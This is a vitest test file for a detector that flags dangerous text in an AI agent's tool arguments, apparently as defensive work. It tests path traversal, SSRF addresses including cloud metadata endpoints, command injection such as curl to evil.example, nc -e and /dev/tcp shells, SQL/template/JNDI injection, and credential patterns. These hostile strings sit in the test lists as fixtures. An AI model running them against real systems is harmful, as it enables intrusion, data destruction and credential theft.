import { describe, expect, it } from 'vitest';
import { hasAwsAccessKey, hasJwt, hasPrivateKey } from './credentials.ts';
import { dangerIn } from './dangers.ts';
import { isInnerHost } from './hosts.ts';

describe('dangers in arguments of tools', () => {
  it.each([
    '../../etc/passwd',
    'files/../../secret.txt',
    '..\\..\\windows\\system32',
    'uploads/..',
    '%2e%2e%2fetc%2fhosts',
    '%252e%252e%252fetc',
    '．．／．．／etc',
    'report.pdf\0.png',
    '/etc/shadow',
    '/proc/self/environ',
    '~/.ssh/id_rsa',
    'C:\\Windows\\System32\\config',
  ])('sees path traversal in %j', (text) => expect(dangerIn(text)).toBe('path_traversal'));

  it.each([
    'http://127.0.0.1:8080/admin',
    'https://localhost/',
    'http://LOCALHOST./',
    'http://169.254.169.254/latest/meta-data/',
    'http://2130706433/',
    'http://0x7f.1/',
    'http://0177.0.0.1/',
    'http://127.1/',
    'http://0/',
    'http://10.1.2.3/x',
    'http://172.31.0.1/',
    'http://192.168.1.1/',
    'http://100.64.0.1/',
    'http://[::1]/',
    'http://[::ffff:127.0.0.1]/',
    'http://[::ffff:7f00:1]/',
    'http://[64:ff9b::7f00:1]/',
    'http://[0:0:0:0:0:0:0:1]/',
    'http://[fd12:3456::1]/',
    'http://[fe80::1]/',
    'http://user:pass@127.0.0.1/',
    'http://example.org@10.0.0.1/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://printer.local/',
    'http://db.prod.svc.cluster.local:5432',
    'file:///srv/data',
    'gopher://example.org:6379/_INFO',
    'http:\\127.0.0.1\\x',
    'http:/127.0.0.1',
    'http:////127.0.0.1',
    'https%3A%2F%2F127.0.0.1%2Fadmin',
    'the address 169.254.169.254',
  ])('sees an inner address in %j', (text) => expect(dangerIn(text)).toBe('ssrf'));

  it.each([
    'report.txt; rm -rf /',
    'x && curl https://evil.example/s',
    'a | sh',
    'a|bash -i',
    '`id`',
    '$(whoami)',
    '$( cat /srv/key )',
    'name\nsudo reboot',
    'x; cat ~/notes',
    'x & nc -e /tmp/s',
    'rm -rf *',
    'exec 3<>/dev/tcp/1.2.3.4/80',
    'cat${IFS}x',
    'x%3B%20rm%20-rf%20%2F',
  ])('sees a command in %j', (text) => expect(dangerIn(text)).toBe('command_injection'));

  it.each([
    "' OR '1'='1",
    "x') or 1=1",
    '1 UNION SELECT password FROM users',
    '1; DROP TABLE orders',
    '1; delete from orders',
    "admin' --",
    "admin'#",
    '1 and sleep(5)',
    "1; WAITFOR DELAY '0:0:5'",
    '${jndi:ldap://x.example/a}',
    '<script>alert(1)</script>',
    'javascript:alert(1)',
    '{{config.items()}}',
    "{{''.__class__}}",
    '{"$where": "1"}',
    '__proto__',
  ])('sees an injection in %j', (text) => expect(dangerIn(text)).not.toBeNull());

  it.each([
    'Please refund order o-1234; the customer is right.',
    'Cats & dogs, R&D, salt & pepper',
    'either this or that = fine',
    'She said "or else" and left',
    "O'Brien and O'Neil",
    'version 1..2, see chapter 3...',
    'https://www.example.org/a/b?x=1&y=2#z',
    'https://8.8.8.8/dns-query',
    'https://172.15.0.1.example.org/',
    'https://[2001:db8::1]/',
    'https://internal.example.org/',
    'ratio 3://4 and a:b://',
    '10.0.0.5',
    'select the union of both sets',
    'drop the table reservation; create a new one',
    'the id of the node is 7 | the name is x',
    'sleep (8 hours)',
    'costs $100 (or so)',
    'ten % of 2e%',
    '日本語のテキスト、ですよ。',
    'file:report.pdf',
    "it's -- well -- complicated",
  ])('leaves %j alone', (text) => expect(dangerIn(text)).toBeNull());

  it('tells inner hosts from others', () => {
    for (const host of [
      '256.1.1.1',
      '1.2.3.4.5',
      '1.1.1.1',
      '128.0.0.1',
      '::ffff:8.8.8.8',
      '2001:db8::7f00:1',
      'a::b::c',
      '1:2:3',
      'gg::1',
      'localhost.example.org',
      '0x',
      '09.1.1.1',
      '',
    ]) {
      expect([host, isInnerHost(host)]).toEqual([host, false]);
    }
    for (const host of [
      '::',
      '::1',
      '127.255.255.255',
      '0x7f000001',
      '017700000001',
      '169.254.1',
      'a.localhost',
      'febf::1',
      '64:ff9b::10.0.0.1',
      '::127.0.0.1',
    ]) {
      expect([host, isInnerHost(host)]).toEqual([host, true]);
    }
  });

  // That it ends is the assertion: anything worse than linear in one of the patterns would take minutes.
  it.each([
    '../',
    '%2e',
    '..',
    'http://',
    'http://1',
    'a.',
    ';',
    '; ',
    '| ',
    "' or ",
    "'",
    '" ',
    '{{',
    '$(',
    '`',
    '&& rm ',
    'union ',
    'eyJ',
    'eyJaaaaaa.eyJaaa',
    'AKIA',
    'AKIAAAAAAAAAAAAAAAAA',
    '-----BEGIN ',
    'BEGIN A ',
    '：//',
    '[::',
    '1.',
  ])('decides 200 KB of %j', (unit) => {
    const text = unit.repeat(200_000 / unit.length);
    expect([dangerIn(text), hasJwt(text), hasAwsAccessKey(text), hasPrivateKey(text)]).toHaveLength(4);
  });
});

describe('credentials', () => {
  const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk';
  it.each<[string, (text: string) => boolean, readonly string[], readonly string[]]>([
    [
      'JSON web tokens',
      hasJwt,
      [jwt, `Bearer ${jwt}`, 'eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.'],
      ['eyJhbGciOiJIUzI1NiJ9', 'xeyJhbGciOiJIUzI1NiJ9.eyJzdWIi.x', 'eyJhbGciOiJIUzI1NiJ9.sub.sig'],
    ],
    [
      'ids of AWS keys',
      hasAwsAccessKey,
      ['AKIAIOSFODNN7EXAMPLE', 'id=ASIAIOSFODNN7EXAMPLE;'],
      ['AKIAIOSFODNN7EXAMPL', 'XAKIAIOSFODNN7EXAMPLE', 'AKIAIOSFODNN7EXAMPLEX', 'akiaiosfodnn7example'],
    ],
    [
      'private keys',
      hasPrivateKey,
      [
        '-----BEGIN PRIVATE KEY-----',
        'x -----BEGIN RSA PRIVATE KEY-----\nMII',
        '-----BEGIN PGP PRIVATE KEY BLOCK-----',
      ],
      ['-----BEGIN PUBLIC KEY-----', 'PRIVATE KEY'],
    ],
  ])('finds %s', (_, has, found, others) => {
    expect([found.filter((text) => !has(text)), others.filter(has)]).toEqual([[], []]);
  });
});
